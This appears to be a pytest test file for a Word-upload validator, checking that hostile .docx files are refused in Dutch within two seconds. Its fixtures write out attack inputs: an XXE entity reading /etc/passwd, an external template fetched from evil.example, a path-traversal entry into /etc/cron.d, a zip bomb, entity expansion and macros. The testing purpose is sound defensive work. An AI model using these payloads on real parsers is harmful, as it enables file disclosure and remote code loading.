"""Uploaded Word files are checked before anything reads them: each hostile kind is refused in Dutch, fast."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder.formats.upload import MAX_BYTES, UploadRefused, checked_docx
from builder.formats.word import render_note, to_bytes
from builder.model.building import new_choices


@pytest.fixture(scope="module")
def note_docx(catalogue) -> bytes:
    import datetime as dt

    choices = new_choices(catalogue, dt.date(2026, 12, 1))
    choices.organisation_name = "Gemeente Zottegem"
    return to_bytes(render_note(choices, catalogue))


def rezipped(data: bytes, change) -> bytes:
    """The package with `change(parts)` applied to its {name: bytes}."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


def with_macro(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"


def with_macro_type(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )


def with_attached_template(parts):
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )


def with_entities(parts):
    parts["word/document.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:document>'
    )


def with_external_entity(parts):
    parts["word/document.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>'
    )


def with_many_parts(parts):
    for n in range(500):
        parts[f"customXml/extra{n}.xml"] = b"<a/>"


def with_bomb(parts):
    parts["word/media/bom.xml"] = b"<a>" + b"0" * (39 * 1024 * 1024) + b"</a>"


def without_content_types(parts):
    del parts["[Content_Types].xml"]


def with_travelling_name(parts):
    parts["../../etc/cron.d/x"] = b"x"


def a_spreadsheet(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"
    )


CASES = [
    ("empty", lambda d: b"", "leeg"),
    ("not a zip", lambda d: b"%PDF-1.7 dit is geen Word", "geen Word-bestand"),
    ("too large", lambda d: b"x" * (MAX_BYTES + 1), "het maximum is 5 MB"),
    ("macros", lambda d: rezipped(d, with_macro), "macro"),
    ("macro-enabled type", lambda d: rezipped(d, with_macro_type), "macro"),
    ("external template", lambda d: rezipped(d, with_attached_template), "buiten zichzelf"),
    ("entities", lambda d: rezipped(d, with_entities), "DTD"),
    ("external entity", lambda d: rezipped(d, with_external_entity), "DTD"),
    ("too many parts", lambda d: rezipped(d, with_many_parts), "te veel onderdelen"),
    ("zip bomb", lambda d: rezipped(d, with_bomb), "samengeperst"),
    ("no content types", lambda d: rezipped(d, without_content_types), "geen Word-bestand"),
    ("path traversal", lambda d: rezipped(d, with_travelling_name), "ongeldige naam"),
    ("a spreadsheet", lambda d: rezipped(d, a_spreadsheet), "geen Word-bestand"),
    ("cut off", lambda d: d[: len(d) // 2], "geen Word-bestand"),
]


@pytest.mark.parametrize(("kind", "make", "said"), CASES, ids=[c[0] for c in CASES])
def test_a_hostile_or_broken_upload_is_refused_in_dutch_within_two_seconds(note_docx, kind, make, said):
    data = make(note_docx)
    started = time.monotonic()
    with pytest.raises(UploadRefused) as refused:
        checked_docx(data)
    assert time.monotonic() - started < 2, kind
    assert said in str(refused.value), str(refused.value)


def test_a_note_made_here_passes_with_all_its_parts(note_docx):
    checked = checked_docx(note_docx)
    assert checked.main == "word/document.xml"
    assert any(name.startswith("customXml/") for name in checked.parts), "the embedded choices are kept"


@settings(max_examples=60, deadline=2000)
@given(st.binary(max_size=4096))
def test_any_bytes_are_read_or_refused_never_crash(data):
    try:
        checked_docx(data)
    except UploadRefused:
        pass


def test_a_zip_claiming_a_version_python_cannot_open_is_refused(note_docx):
    end = note_docx.rindex(b"PK\x01\x02")  # the last central directory entry: "version needed to extract" at +6
    damaged = note_docx[: end + 6] + bytes([64, 0]) + note_docx[end + 8 :]
    with pytest.raises(UploadRefused):
        checked_docx(damaged)


def test_a_damaged_note_is_read_or_refused_never_crashes(note_docx):
    @settings(max_examples=40, deadline=2000)
    @given(st.integers(min_value=0, max_value=len(note_docx) - 1), st.binary(min_size=1, max_size=64))
    def damaged(position, junk):
        try:
            checked_docx(note_docx[:position] + junk + note_docx[position + len(junk) :])
        except UploadRefused:
            pass

    damaged()
